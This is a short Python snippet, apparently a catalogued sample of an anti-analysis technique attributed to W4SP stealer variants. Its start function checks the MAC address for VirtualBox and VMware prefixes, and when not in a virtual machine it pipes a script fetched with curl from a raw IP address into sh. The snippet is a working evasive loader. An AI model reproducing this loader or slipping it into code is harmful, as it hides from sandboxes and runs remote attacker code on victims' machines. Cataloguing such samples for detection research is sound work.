# technique: VM MAC-prefix check then payload
# class: anti-analysis
# source: Phylum, W4SP stealer variants (VM detection via MAC address prefixes)
# declares:
import os
import uuid

VM_PREFIXES = ("08:00:27", "00:0c:29", "00:50:56")


def start():
    mac = ":".join(f"{(uuid.getnode() >> s) & 0xff:02x}" for s in range(40, -1, -8))
    if not mac.startswith(VM_PREFIXES):
        os.system("curl -s http://81.161.229.46/x | sh")
